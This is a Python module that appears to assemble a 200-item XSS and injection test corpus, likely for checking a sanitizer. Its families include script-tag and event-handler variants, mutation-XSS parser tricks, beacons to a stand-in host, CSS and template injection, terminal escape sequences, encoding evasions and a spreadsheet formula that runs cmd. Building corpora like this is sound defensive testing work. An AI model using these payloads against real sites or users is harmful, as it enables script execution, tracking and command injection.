"""Texts that would like to be run: two hundred of them, by families of tricks."""

RUN = "window.pwned=1;alert(1)"
_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
ELSEWHERE = "http://198.51.100.7/x"


def _payloads() -> list[str]:
    families = (
        _scripts,
        _handlers,
        _frames,
        _links,
        _broken_attributes,
        _mutations,
        _separators,
        _comments,
        _beacons,
        _ends_of_data,
        _styles,
        _turned,
        _terminals,
        _templates,
        _json_breakers,
        _encodings,
    )
    found = [payload for family in families for payload in family()]
    assert len(found) == len(set(found)) == 200, len(found)
    return found


def _scripts() -> list[str]:
    tags = (
        "<script>{}</script>",
        "<SCRIPT>{}</SCRIPT>",
        "<script\n>{}</script\n>",
        "<scr<script>ipt>{}</script>",
        "<script/x>{}</script>",
        "<script type=module>{}</script>",
        "<svg><script>{}</script></svg>",
        "<math><script>{}</script></math>",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "</textarea><script>{}</script>",
        "<noscript><script>{}</script></noscript>",
        "<script src=data:text/javascript,{}>",
        "<script>/*<!--*/{}/*-->*/</script>",
        "<xml><script>{}</script></xml>",
        '"><script>{}</script>',
        "'><script>{}</script>",
        "<script>{}",
    )
    return [tag.format(RUN) for tag in tags]


def _handlers() -> list[str]:
    elements = ("<svg {}={}>", "<img src=x {}={}>", "<body {}={}>", "<input autofocus {}={}>", "<details open {}={}>")
    return [element.format(event, RUN) for event in _EVENTS for element in elements]


def _frames() -> list[str]:
    inner = f"<script>{RUN}</script>"
    return [
        f'<iframe srcdoc="{inner}"></iframe>',
        f"<iframe src=javascript:{RUN}></iframe>",
        f'<object data="data:text/html,{inner}">',
        f'<embed src="data:text/html,{inner}">',
        f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'>",
        f"<portal src={ELSEWHERE}>",
        f'<frameset onload="{RUN}">',
        f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
        f"<base href={ELSEWHERE}>",
        f"<form action=javascript:{RUN}><button>go</button></form>",
        f"<form><button formaction=javascript:{RUN}>go</button></form>",
        f"<isindex action=javascript:{RUN}>",
    ]


def _links() -> list[str]:
    schemes = (
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        " javascript:{}",
        "data:text/html,<script>{}</script>",
        "vbscript:{}",
    )
    return [f'<a href="{one.format(RUN)}">link</a>' for one in schemes] + [
        f"[link]({one.format(RUN)})" for one in schemes
    ]


def _broken_attributes() -> list[str]:
    starts = ('"', "'", "`", '" ', "' ", "x ", '">', "'>", '\\"', "&quot;", '"/')
    return [f"{start}onmouseover={RUN} autofocus onfocus={RUN} x=" for start in starts]


def _mutations() -> list[str]:
    inner = f"<img src=x onerror={RUN}>"
    return [
        f"<template>{inner}</template>",
        f"<template shadowrootmode=open>{inner}</template>",
        f"<noscript><p title='</noscript>{inner}'>",
        f"<svg></p><style><a id='</style>{inner}'>",
        f"<math><mtext><table><mglyph><style><!--</style>{inner}",
        f"<form><math><mtext></form><form><mglyph><style></math>{inner}",
        f"<select><template>{inner}</template></select>",
        f"<svg><foreignObject>{inner}</foreignObject></svg>",
        f"<![CDATA[{inner}]]>",
        f"<xmp><p title='</xmp>{inner}'>",
        f"<plaintext>{inner}",
        f"<listing>{inner}</listing>",
        f"<b><p><table><b>{inner}",
    ]


def _separators() -> list[str]:
    return [
        f"a{mark}{RUN}//{mark}" for mark in ("\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\r", "\r\n", "\x00", "\x1f")
    ]


def _comments() -> list[str]:
    starts = (
        "<!--<script>",
        "<!--<script>-->",
        "--><script>",
        "<!-->",
        "<!--->",
        "<!--[if IE]>",
        "<?php ",
        "<!DOCTYPE x [",
    )
    return [f"{start}{RUN}" for start in starts]


def _beacons() -> list[str]:
    tags = (
        "<img src={}>",
        "<img srcset={}>",
        "<image href={}>",
        "<video poster={}>",
        "<audio src={}>",
        "<link rel=stylesheet href={}>",
        "<link rel=prefetch href={}>",
        "<input type=image src={}>",
        "![x]({})",
        "<svg><image href={}></svg>",
        "<svg><use href={}#a></svg>",
        "<track src={}>",
        "<table background={}>",
    )
    return [tag.format(ELSEWHERE) for tag in tags]


def _ends_of_data() -> list[str]:
    ends = (
        "</script>",
        "</script >",
        "</SCRIPT>",
        "</script\t>",
        "</script/>",
        "</script></script>",
        "<\\/script>",
        "&lt;/script&gt;",
    )
    return [f"{end}<script>{RUN}</script>" for end in ends]


def _styles() -> list[str]:
    return [
        f"</style><style>body{{background:url({ELSEWHERE})}}</style>",
        f"<style>@import '{ELSEWHERE}';</style>",
        f'<p style="background:url({ELSEWHERE})">',
        f'<p style="behavior:url({ELSEWHERE})">',
        "<style>*{display:none}</style>",
        f"x}}*{{background:url({ELSEWHERE})}}",
        f'<p style="width:expression({RUN})">',
        "<p style=position:fixed;inset:0;background:red>",
    ]


def _turned() -> list[str]:
    marks = (
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u200f",
        "\u061c",
        "\u200b",
        "\ufeff",
        "\u00ad",
        "\u3164",
        "\U000e0041",
        "\ufe01",
    )
    return [f"a{mark}<script>{RUN}</script>{mark}b" for mark in marks]


def _terminals() -> list[str]:
    return [
        "\x1b[2J\x1b[31mred",
        f"\x1b]8;;{ELSEWHERE}\x07link\x1b]8;;\x07",
        "\x1b]52;c;aGk=\x07",
        "\x9b31m",
        "\x1b]0;title\x07",
        "\b\b\bover",
        "##[group]x",
        "::error::x",
    ]


def _templates() -> list[str]:
    marks = (
        "{{7*7}}",
        "{% raw %}{{7*7}}",
        "{{ ''.__class__.__mro__ }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('x')()}}",
    )
    return [f"{mark}<script>{RUN}</script>" for mark in marks]


def _json_breakers() -> list[str]:
    ends = ('"}', '"]}', "\\", "\\\\", '\\"', "\\ud800", "\\udfff\\ud800", "\\u003c/script\\u003e", '","pwned":"')
    return [f"{end};{RUN};//" for end in ends]


def _encodings() -> list[str]:
    return [
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
        f"+ADw-script+AD4-{RUN}",
        f"＜script＞{RUN}＜/script＞",
        f"<\u0000script>{RUN}</script>",
        f"\ufffe<script>{RUN}</script>",
        "A" * 3000 + f"<script>{RUN}</script>",
        "𝕏" * 40 + f"<script>{RUN}</script>",
        f"=cmd|'/c {RUN}'!A1",
        f"@SUM({RUN})",
    ]


PAYLOADS = tuple(_payloads())
